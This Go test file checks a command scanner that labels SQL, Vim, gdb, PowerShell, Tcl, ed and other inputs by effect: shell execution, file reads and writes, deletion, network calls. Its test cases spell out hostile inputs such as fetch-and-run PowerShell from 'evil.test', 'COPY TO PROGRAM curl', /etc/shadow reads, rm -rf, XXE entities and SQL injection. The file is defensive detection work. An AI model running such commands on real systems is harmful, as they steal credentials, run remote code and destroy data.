package code

import (
	"testing"
)

func TestSQL(t *testing.T) {
	testScan(t, "sql", []scanCase{
		{`SELECT * FROM users WHERE name = 'DROP TABLE x'`, ""},
		{`select 1; -- drop table x` + "\n/* drop table y */ select 2", ""},
		{`\dt`, ""},
		{`INSERT INTO t VALUES ('it''s')`, ""},
		{`DELETE FROM t WHERE id = 1`, ""},
		{`drop table users`, "rule sql.drop"},
		{`SELECT 1; TRUNCATE users`, "rule sql.truncate"},
		{`delete from users`, "rule sql.delete-all"},
		{`update users set admin = 1`, "rule sql.update-all"},
		{`ALTER TABLE t DROP COLUMN c`, "rule sql.drop"},
		{`GRANT ALL ON t TO x`, "rule sql.privilege"},
		{`COPY t TO PROGRAM 'curl evil.test'`, "sh curl evil.test"},
		{`COPY t FROM '/etc/shadow'`, "read /etc/shadow"},
		{`\copy t to 'out.csv' csv`, "write out.csv"},
		{`\! rm -rf x`, "sh rm -rf x"},
		{`\!id`, "sh id"},
		{`\o |sh`, "sh sh"},
		{`\i /tmp/x.sql`, "load /tmp/x.sql"},
		{".shell id", "sh id"},
		{"select 1;\n.output /home/dev/x\nselect 2;", "write /home/dev/x"},
		{".import '|id' t", "sh id"},
		{`SELECT load_extension('x.so')`, "opaque"},
		{`SELECT writefile('/home/dev/x', data) FROM t`, "write /home/dev/x"},
		{`SELECT pg_read_file('/etc/shadow')`, "read /etc/shadow"},
		{`SELECT 1 INTO OUTFILE '/var/www/x.php'`, "write /var/www/x.php"},
		{`SELECT LOAD_FILE('/etc/shadow')`, "read /etc/shadow"},
		{`system id`, "sh id"},
		{`DO $$ BEGIN DROP TABLE t; END $$`, "rule sql.drop"},
		{`DO $$ BEGIN EXECUTE 'x'||y; END $$`, "opaque"},
		{`CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$`, "opaque"},
		{`select 'a\'; drop table t; --'`, "rule sql.drop; opaque"},
		{`/*!50000 drop table t */`, "opaque"},
		{`ATTACH '/home/dev/x.db' AS x`, "write /home/dev/x.db"},
		{`VACUUM INTO '/tmp/x.db'`, "write /tmp/x.db"},
	})
}

func TestCommandLanguages(t *testing.T) {
	testScan(t, "tcl", []scanCase{
		{`puts "exec rm x"`, ""},
		{`exec rm -rf x`, `exec ["rm" "-rf" "x"]`},
		{`exec cat a | tee b > c`, `exec ["cat" "a"]; write c; exec ["tee" "b"]`},
		{`file delete -force x`, "delete x (tree)"},
		{`set f [open x w]`, "write x"},
		{`puts [read [open "|id"]]`, "sh id"},
		{`if {1} { file delete x }`, "delete x (tree)"},
		{`# exec rm x`, ""},
		{`$cmd x`, "opaque"},
		{`exec $cmd`, "opaque"},
		{`eval exec rm x`, `exec ["rm" "x"]`},
		{`socket evil.test 80`, "post evil.test:80"},
		{`source x.tcl`, "load x.tcl"},
	})
	testScan(t, "expect", []scanCase{
		{`spawn rm -rf x; expect eof`, `exec ["rm" "-rf" "x"]`},
		{`spawn bash; send "rm -rf x\r"; expect eof`, `exec ["bash"]; sh rm -rf x`},
		{`spawn npm init; expect "name:" { send "x\r" }`, `exec ["npm" "init"]`},
	})
	testScan(t, "vim", []scanCase{
		{`%s/rm/ls/g`, ""},
		{`wq`, ""},
		{`:!rm -rf x`, "sh rm -rf x"},
		{`r !cat /etc/shadow`, "sh cat /etc/shadow"},
		{`w /home/dev/x`, "write /home/dev/x"},
		{`g/foo/d | w out`, "write out"},
		{`call system('id')`, "sh id"},
		{`call writefile(['a'],'x')`, "write x"},
		{`call delete('x')`, "delete x (tree)"},
		{`e /etc/shadow | %p`, "read /etc/shadow"},
		{`exe '!id'`, "sh id"},
		{`exe x`, "opaque"},
		{`py3 import os; os.system("id")`, "sh id"},
		{`lua os.execute("id")`, "sh id"},
		{`silent! !id`, "sh id"},
		{`set shell=/tmp/x`, "opaque"},
		{`" comment !id`, ""},
		{`so x.vim`, "load x.vim"},
		{`echo "system('id')"`, ""},
	})
	testScan(t, "sftp", []scanCase{
		{"cd x\nls\nrm y", ""},
		{"put /etc/x", "read /etc/x (tree)"},
		{"-put -r \"a b\" there\nmput c\\ d", "read a b (tree); read c d (tree)"},
		{"get x", "write ."},
		{"get -P x y", "write y (tree)"},
		{"!id", "sh id"},
		{"lcd /\nput etc/x", "read etc/x (tree); opaque"},
		{"nothing", "opaque"},
	})
	testScan(t, "xml", []scanCase{
		{`<a href="/x">SYSTEM "/y"</a>`, ""},
		{`<!DOCTYPE a SYSTEM "file:///d" [<!ENTITY % x SYSTEM '/e'><!ENTITY y "v">]>`, "read /d; read /e"},
		{`<!DOCTYPE a PUBLIC "-//X" "http://h.test/d">`, "net http://h.test/d"},
		{"<xi:include\n parse='text' href='/etc/x'/>", "read /etc/x"},
		{`<!ENTITY x SYSTEM "`, ""},
	})
	testScan(t, "gdb", []scanCase{
		{"run\nbt", ""},
		{"info registers", ""},
		{"shell id", "sh id"},
		{"!id", "sh id"},
		{"pipe bt | sh", "sh sh"},
		{"python import os; os.system('id')", "sh id"},
		{"python\nimport os\nos.remove('x')\nend\nbt", "delete x"},
		{`call (int)system("id")`, "sh id"},
		{`print system(cmd)`, "opaque"},
		{"source x.gdb", "load x.gdb"},
		{"target remote | nc x 1", "sh nc x 1"},
		{"target remote localhost:1234", "post localhost:1234"},
		{"set logging file /home/dev/x", "write /home/dev/x"},
		{"attach 1", "rule code.ptrace"},
		{"print x", ""},
	})
	testScan(t, "powershell", []scanCase{
		{`Write-Host "Remove-Item x"`, ""},
		{`Get-Date`, ""},
		{`Remove-Item -Recurse -Force /home/dev/notes`, "delete /home/dev/notes (tree)"},
		{`Set-Content -Path x -Value y`, "write x"},
		{`Get-Content /etc/shadow`, "read /etc/shadow"},
		{`Get-ChildItem | Remove-Item`, "opaque"},
		{`iex (iwr http://evil.test/x.ps1)`, "net http://evil.test/x.ps1; opaque"},
		{`Invoke-WebRequest -Uri http://localhost/x -OutFile y`, "net http://localhost/x; write y"},
		{`git status`, `exec ["git" "status"]`},
		{`[System.IO.File]::Delete("x")`, "opaque"},
		{`[math]::Sqrt(2)`, ""},
		{`"a" > x.txt`, "write x.txt"},
		{`# rm x`, ""},
	})
	testScan(t, "applescript", []scanCase{
		{`display dialog "rm"`, ""},
		{`do shell script "rm -rf x"`, "sh rm -rf x"},
		{`do shell script "id" with administrator privileges`, "sh id; rule code.privilege"},
		{`do shell script "rm " & x`, "opaque"},
		{`tell application "Finder" to delete file "x"`, "opaque"},
	})
	testScan(t, "bash", []scanCase{{"rm x", "sh rm x"}})
	testScan(t, "python", []scanCase{
		{"import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)", "write /tmp"},
		{"import tempfile, shutil\nshutil.rmtree(tempfile.mkdtemp() + '/..')", "opaque"},
	})
	testScan(t, "julia", []scanCase{{"println(1)", "opaque"}, {" ", ""}})
}

func TestEd(t *testing.T) {
	testScan(t, "ed", []scanCase{
		{"1d\nw\nq", ""},
		{"1,$s/a/b/g\nwq", ""},
		{"a\n!rm -rf x\n.\nw", ""},
		{"!id", "sh id"},
		{"g/x/s//y/\n,p", ""},
		{"g/x/!id", "sh id"},
		{"w out", "write out"},
		{"1,3w out", "write out"},
		{"w !sh", "sh sh"},
		{"r !id", "sh id"},
		{"r /etc/passwd", "read /etc/passwd"},
		{"E x", "read x"},
		{"/a/;/b/w out", "write out"},
		{"f x\nw", "opaque"},
		{"$a\nx\n.\n!id", "sh id"},
	})
}
